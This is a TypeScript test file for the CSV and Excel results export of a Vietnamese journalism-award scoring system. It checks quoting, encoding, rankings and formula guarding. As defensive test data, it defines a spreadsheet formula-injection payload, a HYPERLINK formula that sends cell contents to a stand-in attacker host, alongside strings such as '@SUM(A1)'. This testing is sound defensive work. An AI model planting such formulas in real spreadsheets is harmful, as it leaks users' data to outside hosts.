import { randomUUID } from 'node:crypto';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Queryable } from '../../../db/client';
import { assignments, campaigns, rubricCriteria, scoreItems, users, type Campaign, type Entry } from '../../../db/schema';
import { guardFormula, toCsv } from '../../../src/domain/scoring/export/csv';
import { resultsExport } from '../../../src/domain/scoring/export/results-tables';
import type { Table } from '../../../src/domain/scoring/export/table';
import { toXlsx } from '../../../src/domain/scoring/export/xlsx';
import { translator } from '../../../src/i18n';
import { actorFor } from '../../support/accounts';
import { useCountedDatabase } from '../../support/counted-database';
import { useTestDatabase } from '../../support/database';
import { parseCsv } from '../../support/csv';
import { createEntry } from '../../support/entries';

const vi = translator('vi');
const vietnameseComment = 'Tác phẩm phản ánh sâu sắc việc “một cửa, một dấu”; cần bổ sung số liệu năm 2024.\nĐề nghị khen thưởng.';
const injection = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';

describe('CSV', () => {
  const table: Table = {
    name: 'x',
    columns: [
      { header: 'Tên', type: 'text' },
      { header: 'Điểm', type: 'integer' },
      { header: 'Trung bình', type: 'decimal' },
      { header: 'Nhận xét', type: 'longText' },
    ],
    rows: [
      ['Đường dây nóng, “một cửa”', 80, 73.333333, 'dòng 1\ndòng 2'],
      ['+84 tổng đài', 0, null, '@SUM(A1)'],
      ['-5% thủ tục', 100, 100, '\tTAB'],
      [injection, 55, 55.5, '\rCR'],
    ],
  };

  it('starts with a BOM, ends lines with CRLF, quotes per RFC 4180 and guards formulas', () => {
    const csv = toCsv(table);
    expect(csv.startsWith('\uFEFFTên,Điểm,Trung bình,Nhận xét\r\n')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv).toContain('"Đường dây nóng, “một cửa”",80,73.33,"dòng 1\ndòng 2"\r\n');
    expect(parseCsv(csv.slice(1))).toEqual([
      ['Tên', 'Điểm', 'Trung bình', 'Nhận xét'],
      ['Đường dây nóng, “một cửa”', '80', '73.33', 'dòng 1\ndòng 2'],
      ["'+84 tổng đài", '0', '', "'@SUM(A1)"],
      ["'-5% thủ tục", '100', '100.00', "'\tTAB"],
      [`'${injection}`, '55', '55.50', "'\rCR"],
    ]);
  });

  it('prefixes only text starting with = + - @ TAB or CR', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(guardFormula(`${start}1`)).toBe(`'${start}1`);
    for (const safe of ['1+1', 'a=b', ' =1', '', 'Hà Nội', "'=1"]) expect(guardFormula(safe)).toBe(safe);
  });
});

async function score(db: Queryable, entry: Entry, scorerId: number, points: [number, number][], comment: string) {
  const [a] = await db
    .insert(assignments)
    .values({
      entryId: entry.id,
      scorerId,
      assignedAt: new Date('2024-10-01T08:00:00+07:00'),
      scoreStatus: 'submitted',
      total: points.reduce((sum, [, p]) => sum + p, 0),
      comment,
      submittedAt: new Date('2024-10-02T07:30:00Z'), // 14:30 in Vietnam
    })
    .returning();
  await db.insert(scoreItems).values(points.map(([criterionId, p]) => ({ assignmentId: a.id, criterionId, points: p })));
}

/** A campaign with a two-criterion rubric, two scorers and two entries, one of them hostile. */
async function scoredCampaign(db: Queryable, year: number): Promise<{ campaign: Campaign; entries: Entry[] }> {
  const [campaign] = await db
    .insert(campaigns)
    .values({
      year,
      title: `Đợt ${year}`,
      submissionOpensAt: new Date(`${year}-02-01T00:00:00+07:00`),
      submissionClosesAt: new Date(`${year}-10-31T23:59:59+07:00`),
      scoringClosesAt: new Date(`${year}-11-30T23:59:59+07:00`),
      nominationsDueAt: new Date(`${year}-12-15T23:59:59+07:00`),
    })
    .returning();
  const [content, form] = await db
    .insert(rubricCriteria)
    .values([
      { campaignId: campaign.id, position: 0, name: 'Nội dung về cải cách hành chính', maxPoints: 60 },
      { campaignId: campaign.id, position: 1, name: 'Chất lượng nghiệp vụ', maxPoints: 40 },
    ])
    .returning();
  const org = (await actorFor(db, 'scorer1@demo.vn')).organisationId;
  const [lan, tuan] = await db
    .insert(users)
    .values(['Vũ Thị Lan', 'Hoàng Minh Tuấn'].map((name) => ({ email: `s-${randomUUID()}@demo.vn`, name, role: 'scorer' as const, organisationId: org, passwordHash: '-' })))
    .returning();
  const good = await createEntry(db, 'journalist@demo.vn', {
    campaignId: campaign.id,
    status: 'scored',
    title: 'Quảng Ninh: đẩy mạnh số hóa hồ sơ thủ tục hành chính',
    pressType: 'television',
    parAreas: ['procedures', 'digital_government'],
  });
  const hostile = await createEntry(db, 'journalist2@demo.vn', { campaignId: campaign.id, status: 'in_review', title: injection, pressType: 'online' });
  await score(db, good, lan.id, [[content.id, 50], [form.id, 35]], vietnameseComment);
  await score(db, good, tuan.id, [[content.id, 45], [form.id, 30]], '');
  await score(db, hostile, lan.id, [[content.id, 30], [form.id, 20]], '-1+1 @cmd');
  return { campaign, entries: [good, hostile] };
}

const handle = useTestDatabase();
let data: Awaited<ReturnType<typeof scoredCampaign>>;
beforeAll(async () => {
  data = await scoredCampaign(handle.db, 2040);
});

describe('the results export', () => {
  it('has per entry the figures, the authors and every comment, in ranking order', async () => {
    const { byEntry } = await resultsExport(handle.db, data.campaign, {}, vi);
    const csv = parseCsv(toCsv(byEntry).slice(1));
    const header = csv[0];
    expect(header).toEqual([
      'Hạng', 'Mã tác phẩm', 'Tên tác phẩm', 'Loại', 'Loại hình báo chí', 'Lĩnh vực cải cách hành chính', 'Cơ quan', 'Tác giả', 'Trạng thái',
      'Số phiếu đã nộp', 'Điểm trung bình', 'Trung vị', 'Độ lệch chuẩn', 'Điểm thấp nhất', 'Điểm cao nhất', 'Trung bình cắt',
      'Trung bình chuẩn hóa', 'Kết quả (điểm gốc)', 'Kết quả (chuẩn hóa)', 'Chênh lệch cao – thấp', 'Cần thảo luận', 'Nhận xét',
    ]);
    const row = (entryId: number) => Object.fromEntries(csv.find((r) => r[1] === String(entryId))!.map((v, i) => [header[i], v]));
    const [good, hostile] = data.entries;
    expect(csv.slice(1).map((r) => r[1])).toEqual([String(good.id), String(hostile.id)]);
    expect(row(good.id)).toMatchObject({
      Hạng: '1',
      'Tên tác phẩm': 'Quảng Ninh: đẩy mạnh số hóa hồ sơ thủ tục hành chính',
      Loại: 'Tác phẩm báo chí',
      'Loại hình báo chí': 'Truyền hình',
      'Lĩnh vực cải cách hành chính': 'Cải cách thủ tục hành chính; Xây dựng và phát triển Chính phủ điện tử, Chính phủ số',
      'Cơ quan': 'Báo Hạ Long điện tử',
      'Tác giả': 'Trần Thị Thu Hà',
      'Trạng thái': 'Đã chấm',
      'Số phiếu đã nộp': '2',
      'Điểm trung bình': '80.00',
      'Trung vị': '80.00',
      'Độ lệch chuẩn': '7.07',
      'Điểm thấp nhất': '75',
      'Điểm cao nhất': '85',
      'Trung bình cắt': '',
      'Kết quả (điểm gốc)': '80.00',
      'Chênh lệch cao – thấp': '10',
      'Cần thảo luận': 'Không',
      'Nhận xét': `Vũ Thị Lan: ${vietnameseComment}`,
    });
    expect(row(hostile.id)).toMatchObject({
      Hạng: '2',
      'Tên tác phẩm': `'${injection}`,
      'Tác giả': 'Phạm Đức Long',
      'Nhận xét': 'Vũ Thị Lan: -1+1 @cmd',
      'Số phiếu đã nộp': '1',
      'Độ lệch chuẩn': '',
    });
  });

  it('has per scorer each score with its points per criterion, comment and time, by scorer name', async () => {
    const { byScorer } = await resultsExport(handle.db, data.campaign, {}, vi);
    const csv = parseCsv(toCsv(byScorer).slice(1));
    const [good, hostile] = data.entries;
    expect(csv[0]).toEqual([
      'Thành viên chấm', 'Mã tác phẩm', 'Tên tác phẩm', 'Tổng điểm', 'Điểm chuẩn hóa',
      'Nội dung về cải cách hành chính (tối đa 60)', 'Chất lượng nghiệp vụ (tối đa 40)', 'Nhận xét', 'Nộp lúc (giờ Việt Nam)',
    ]);
    expect(csv.slice(1).map((r) => [r[0], r[1], r[3], r[5], r[6], r[7], r[8]])).toEqual([
      ['Hoàng Minh Tuấn', String(good.id), '75', '45', '30', '', '2024-10-02 14:30'],
      ['Vũ Thị Lan', String(good.id), '85', '50', '35', vietnameseComment, '2024-10-02 14:30'],
      ['Vũ Thị Lan', String(hostile.id), '50', '30', '20', "'-1+1 @cmd", '2024-10-02 14:30'],
    ]);
  });

  it('writes a workbook whose two sheets read back cell for cell, Vietnamese intact and formulas as text', async () => {
    const { byEntry, byScorer } = await resultsExport(handle.db, data.campaign, {}, vi);
    const buffer = await toXlsx([byEntry, byScorer], { creator: 'Giải báo chí CCHC Quảng Ninh' });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Theo tác phẩm', 'Theo thành viên chấm']);

    // Rows and cells are 1-based sparse arrays; an empty cell reads back as null.
    const sheetValues = (sheet: ExcelJS.Worksheet, width: number) =>
      sheet
        .getSheetValues()
        .slice(1)
        .map((row) => Array.from({ length: width }, (_, i) => (row as ExcelJS.CellValue[])[i + 1] ?? null));
    const entries = sheetValues(workbook.worksheets[0], byEntry.columns.length);
    expect(entries[0]).toEqual(byEntry.columns.map((c) => c.header));
    expect(entries.slice(1)).toEqual(byEntry.rows);

    const scorers = sheetValues(workbook.worksheets[1], byScorer.columns.length);
    expect(scorers[0]).toEqual(byScorer.columns.map((c) => c.header));
    expect(scorers.slice(1)).toEqual(byScorer.rows);

    const sheet = workbook.worksheets[0];
    const title = sheet.getCell(3, 3);
    expect(title.value).toBe(injection);
    expect(title.type).toBe(ExcelJS.ValueType.String);
    expect(title.formula).toBeUndefined();
    const comment = sheet.getCell(2, byEntry.columns.length);
    expect(comment.value).toBe(`Vũ Thị Lan: ${vietnameseComment}`);
    expect(sheet.getCell(2, 11).type).toBe(ExcelJS.ValueType.Number);
    expect(sheet.getCell(2, 11).numFmt).toBe('0.00');
    expect(workbook.worksheets[1].getCell(4, 8).value).toBe('-1+1 @cmd');
    expect(workbook.creator).toBe('Giải báo chí CCHC Quảng Ninh');
  });

  it('follows the filters, and reads in English with the English catalogue', async () => {
    const online = await resultsExport(handle.db, data.campaign, { pressType: 'online' }, translator('en'));
    expect(online.byEntry.rows.map((r) => [r[0], r[1], r[3], r[4], r[8], r[20]])).toEqual([[1, data.entries[1].id, 'Press article', 'Online', 'Being scored', 'No']]);
    expect(online.byEntry.columns[0].header).toBe('Rank');
    expect(online.byScorer.rows).toHaveLength(1);
    expect(online.byScorer.name).toBe('By scorer');
  });
});

describe('the number of queries of an export', () => {
  const counted = useCountedDatabase();

  it('does not grow with the entries', async () => {
    const first = await scoredCampaign(counted.db, 2041);
    const few = await counted.countQueries(() => resultsExport(counted.db, first.campaign, {}, vi));
    const more = await scoredCampaign(counted.db, 2042);
    for (let i = 0; i < 30; i++) await createEntry(counted.db, 'journalist@demo.vn', { campaignId: more.campaign.id, status: 'in_review', title: `Thêm ${i}` });
    expect(await counted.countQueries(() => resultsExport(counted.db, more.campaign, {}, vi))).toBe(few);
    // The ranking is one query since the kept rows went (it was four: version, scores, names, entries).
    expect(few).toBe(5);
  });
});
